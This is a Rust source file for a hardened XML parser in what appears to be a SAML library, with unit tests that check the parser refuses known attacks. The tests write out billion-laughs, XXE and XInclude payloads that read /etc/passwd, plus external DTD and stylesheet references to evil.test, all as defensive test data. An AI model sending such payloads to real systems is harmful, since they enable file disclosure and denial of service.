//! The one hardened XML entry point, namespace constants and strict lookup helpers.
//!
//! Everything the crate receives goes through [`parse`]: DTDs (and hence entity declarations,
//! external entities and billion-laughs payloads) are refused, processing instructions and
//! XInclude are refused, and input size, element depth, attributes per element, in-scope
//! namespaces per element and total node count are bounded.

use roxmltree::{Document, Node, ParsingOptions};

use crate::error::XmlError;

/// SAML 2.0 assertion namespace.
pub const NS_SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
/// SAML 2.0 protocol namespace.
pub const NS_SAMLP: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
/// SAML 2.0 metadata namespace.
pub const NS_MD: &str = "urn:oasis:names:tc:SAML:2.0:metadata";
/// XML-DSig namespace.
pub const NS_DS: &str = "http://www.w3.org/2000/09/xmldsig#";
/// Exclusive C14N namespace (for `InclusiveNamespaces`).
pub const NS_EXC_C14N: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
/// XML Encryption namespace.
pub const NS_XENC: &str = "http://www.w3.org/2001/04/xmlenc#";
/// XInclude namespace (refused).
pub const NS_XINCLUDE: &str = "http://www.w3.org/2001/XInclude";

/// Limits applied by [`parse`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XmlLimits {
    /// Maximum input size in bytes.
    pub max_bytes: usize,
    /// Maximum element nesting depth (the root element is depth 1).
    pub max_depth: usize,
    /// Maximum attributes on one element.
    pub max_attributes: usize,
    /// Maximum namespaces in scope on one element.
    pub max_namespaces: usize,
    /// Maximum total number of nodes (elements, text, comments).
    pub max_nodes: u32,
}

impl XmlLimits {
    /// Defaults for protocol messages (SAMLResponse, LogoutRequest...): 256 KiB.
    pub const MESSAGE: XmlLimits = XmlLimits {
        max_bytes: 256 * 1024,
        max_depth: 64,
        max_attributes: 64,
        max_namespaces: 64,
        max_nodes: 20_000,
    };
    /// Defaults for metadata documents: 1 MiB.
    pub const METADATA: XmlLimits = XmlLimits {
        max_bytes: 1024 * 1024,
        max_depth: 64,
        max_attributes: 64,
        max_namespaces: 64,
        max_nodes: 100_000,
    };
}

impl Default for XmlLimits {
    fn default() -> Self {
        Self::MESSAGE
    }
}

/// Parses `xml` with DTDs refused and every limit in `limits` enforced.
pub fn parse<'a>(xml: &'a str, limits: &XmlLimits) -> Result<Document<'a>, XmlError> {
    if xml.len() > limits.max_bytes {
        return Err(XmlError::TooLarge {
            size: xml.len(),
            limit: limits.max_bytes,
        });
    }
    check_declared_encoding(xml)?;
    let options = ParsingOptions {
        allow_dtd: false,
        nodes_limit: limits.max_nodes,
        ..ParsingOptions::default()
    };
    let doc = Document::parse_with_options(xml, options).map_err(|e| match e {
        roxmltree::Error::DtdDetected => XmlError::DtdPresent,
        roxmltree::Error::NodesLimitReached => XmlError::TooManyNodes {
            limit: limits.max_nodes,
        },
        other => XmlError::Malformed(other.to_string()),
    })?;
    check_tree(&doc, limits)?;
    Ok(doc)
}

/// Like [`parse`] but from bytes, which must be UTF-8.
pub fn parse_bytes<'a>(bytes: &'a [u8], limits: &XmlLimits) -> Result<Document<'a>, XmlError> {
    if bytes.len() > limits.max_bytes {
        return Err(XmlError::TooLarge {
            size: bytes.len(),
            limit: limits.max_bytes,
        });
    }
    let text = std::str::from_utf8(bytes).map_err(|_| XmlError::NotUtf8)?;
    parse(text, limits)
}

/// Refuses an XML declaration naming an encoding other than UTF-8 (the text is already UTF-8).
fn check_declared_encoding(xml: &str) -> Result<(), XmlError> {
    let body = xml.strip_prefix('\u{feff}').unwrap_or(xml);
    let Some(rest) = body.strip_prefix("<?xml") else {
        return Ok(());
    };
    let Some(end) = rest.find("?>") else {
        return Ok(()); // the parser reports the malformed declaration
    };
    let decl = rest.get(..end).unwrap_or("");
    let Some(pos) = decl.find("encoding") else {
        return Ok(());
    };
    let after = decl.get(pos + "encoding".len()..).unwrap_or("");
    let after = after
        .trim_start()
        .strip_prefix('=')
        .unwrap_or("")
        .trim_start();
    let quote = after.chars().next().unwrap_or('"');
    let value: String = after.chars().skip(1).take_while(|c| *c != quote).collect();
    if value.eq_ignore_ascii_case("utf-8") || value.eq_ignore_ascii_case("utf8") {
        Ok(())
    } else {
        Err(XmlError::UnsupportedEncoding(value))
    }
}

fn check_tree(doc: &Document<'_>, limits: &XmlLimits) -> Result<(), XmlError> {
    let mut stack: Vec<(Node<'_, '_>, usize)> = vec![(doc.root(), 0)];
    while let Some((node, depth)) = stack.pop() {
        if node.is_pi() {
            let target = node.pi().map(|p| p.target.to_string()).unwrap_or_default();
            return Err(XmlError::ProcessingInstruction(target));
        }
        if node.is_element() {
            if depth > limits.max_depth {
                return Err(XmlError::TooDeep {
                    limit: limits.max_depth,
                });
            }
            if node.tag_name().namespace() == Some(NS_XINCLUDE) {
                return Err(XmlError::XInclude);
            }
            let count = node.attributes().len();
            if count > limits.max_attributes {
                return Err(XmlError::TooManyAttributes {
                    element: node.tag_name().name().to_string(),
                    count,
                    limit: limits.max_attributes,
                });
            }
            let ns = node.namespaces().len();
            if ns > limits.max_namespaces {
                return Err(XmlError::TooManyNamespaces {
                    element: node.tag_name().name().to_string(),
                    count: ns,
                    limit: limits.max_namespaces,
                });
            }
        }
        for child in node.children() {
            stack.push((child, depth + 1));
        }
    }
    Ok(())
}

/// Child elements of `node` named `{ns}local`.
pub fn children<'a, 'i>(
    node: Node<'a, 'i>,
    ns: &'static str,
    local: &'static str,
) -> impl Iterator<Item = Node<'a, 'i>> {
    node.children()
        .filter(move |c| c.is_element() && c.has_tag_name((ns, local)))
}

/// The single child element `{ns}local` of `node`; `Ok(None)` if absent, `Err(count)` if repeated.
pub fn single_child<'a, 'i>(
    node: Node<'a, 'i>,
    ns: &'static str,
    local: &'static str,
) -> Result<Option<Node<'a, 'i>>, usize> {
    let mut it = children(node, ns, local);
    let first = it.next();
    let rest = it.count();
    if rest > 0 { Err(rest + 1) } else { Ok(first) }
}

/// The full text of an element that must hold only text: all text children concatenated
/// (comments are skipped, so a comment can never truncate a value), element children refused.
pub fn text_content(node: Node<'_, '_>) -> Result<String, XmlError> {
    let mut out = String::new();
    for child in node.children() {
        if child.is_element() {
            return Err(XmlError::NotTextOnly(node.tag_name().name().to_string()));
        }
        if child.is_text()
            && let Some(t) = child.text()
        {
            out.push_str(t);
        }
    }
    Ok(out)
}

/// `{namespace}local` of an element, for error messages.
pub fn expanded_name(node: Node<'_, '_>) -> String {
    match node.tag_name().namespace() {
        Some(ns) => format!("{{{ns}}}{}", node.tag_name().name()),
        None => node.tag_name().name().to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(xml: &str) -> Result<(), XmlError> {
        parse(xml, &XmlLimits::MESSAGE).map(|_| ())
    }

    #[test]
    fn plain_document_parses() {
        assert_eq!(
            p("<?xml version='1.0' encoding='UTF-8'?><a xmlns='urn:x'><b/></a>"),
            Ok(())
        );
    }

    #[test]
    fn billion_laughs_is_refused_as_dtd() {
        let xml = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"#;
        assert_eq!(p(xml), Err(XmlError::DtdPresent));
    }

    #[test]
    fn xxe_external_entity_is_refused() {
        let xml = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>"#;
        assert_eq!(p(xml), Err(XmlError::DtdPresent));
    }

    #[test]
    fn xxe_parameter_entity_is_refused() {
        let xml = r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><r/>"#;
        assert_eq!(p(xml), Err(XmlError::DtdPresent));
    }

    #[test]
    fn external_dtd_and_empty_dtd_are_refused() {
        assert_eq!(
            p(r#"<!DOCTYPE r SYSTEM "http://evil.test/r.dtd"><r/>"#),
            Err(XmlError::DtdPresent)
        );
        assert_eq!(p("<!DOCTYPE r><r/>"), Err(XmlError::DtdPresent));
        assert_eq!(p("<!DOCTYPE r []><r/>"), Err(XmlError::DtdPresent));
    }

    #[test]
    fn undeclared_entity_is_malformed() {
        assert!(matches!(p("<r>&foo;</r>"), Err(XmlError::Malformed(_))));
    }

    #[test]
    fn processing_instruction_is_refused() {
        assert_eq!(
            p(r#"<?xml-stylesheet href="http://evil.test/x.xsl"?><r/>"#),
            Err(XmlError::ProcessingInstruction("xml-stylesheet".into()))
        );
        assert_eq!(
            p("<r><?php x?></r>"),
            Err(XmlError::ProcessingInstruction("php".into()))
        );
    }

    #[test]
    fn xinclude_is_refused() {
        let xml = r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></r>"#;
        assert_eq!(p(xml), Err(XmlError::XInclude));
    }

    #[test]
    fn size_limit_is_enforced_before_parsing() {
        let limits = XmlLimits {
            max_bytes: 10,
            ..XmlLimits::MESSAGE
        };
        assert_eq!(
            parse("<r>0123456789</r>", &limits).map(|_| ()),
            Err(XmlError::TooLarge {
                size: 17,
                limit: 10
            })
        );
    }

    #[test]
    fn depth_limit_is_enforced() {
        let xml = format!("{}{}", "<a>".repeat(65), "</a>".repeat(65));
        assert_eq!(p(&xml), Err(XmlError::TooDeep { limit: 64 }));
        let ok = format!("{}{}", "<a>".repeat(64), "</a>".repeat(64));
        assert_eq!(p(&ok), Ok(()));
    }

    #[test]
    fn attribute_limit_is_enforced() {
        let attrs: String = (0..65).map(|i| format!(" a{i}='x'")).collect();
        let xml = format!("<r{attrs}/>");
        assert_eq!(
            p(&xml),
            Err(XmlError::TooManyAttributes {
                element: "r".into(),
                count: 65,
                limit: 64
            })
        );
    }

    #[test]
    fn namespace_limit_is_enforced() {
        let decls: String = (0..70).map(|i| format!(" xmlns:n{i}='urn:{i}'")).collect();
        let xml = format!("<r{decls}/>");
        assert!(matches!(p(&xml), Err(XmlError::TooManyNamespaces { .. })));
    }

    #[test]
    fn node_limit_is_enforced() {
        let limits = XmlLimits {
            max_nodes: 10,
            ..XmlLimits::MESSAGE
        };
        let xml = format!("<r>{}</r>", "<a/>".repeat(20));
        assert_eq!(
            parse(&xml, &limits).map(|_| ()),
            Err(XmlError::TooManyNodes { limit: 10 })
        );
    }

    #[test]
    fn non_utf8_is_refused() {
        assert_eq!(
            parse_bytes(b"<r>\xff</r>", &XmlLimits::MESSAGE).map(|_| ()),
            Err(XmlError::NotUtf8)
        );
        assert_eq!(
            p("<?xml version='1.0' encoding='ISO-8859-1'?><r/>"),
            Err(XmlError::UnsupportedEncoding("ISO-8859-1".into()))
        );
    }

    #[test]
    fn trailing_content_and_two_roots_are_malformed() {
        assert!(matches!(p("<r/><r/>"), Err(XmlError::Malformed(_))));
        assert!(matches!(p("<r/>junk"), Err(XmlError::Malformed(_))));
    }

    #[test]
    fn text_content_is_not_truncated_by_comments() {
        let doc = parse("<n>victim@x.test<!---->.evil.test</n>", &XmlLimits::MESSAGE).unwrap();
        assert_eq!(
            text_content(doc.root_element()).unwrap(),
            "victim@x.test.evil.test"
        );
        let doc = parse("<n>a<b/></n>", &XmlLimits::MESSAGE).unwrap();
        assert_eq!(
            text_content(doc.root_element()),
            Err(XmlError::NotTextOnly("n".into()))
        );
    }

    #[test]
    fn lookups_are_namespace_correct() {
        let doc = parse(
            r#"<r xmlns:a="urn:a" xmlns:b="urn:b"><a:x/><b:x/><x/></r>"#,
            &XmlLimits::MESSAGE,
        )
        .unwrap();
        let r = doc.root_element();
        assert_eq!(children(r, "urn:a", "x").count(), 1);
        assert_eq!(single_child(r, "urn:b", "x").map(|o| o.is_some()), Ok(true));
        assert_eq!(
            single_child(r, "urn:c", "x").map(|o| o.is_some()),
            Ok(false)
        );
    }
}
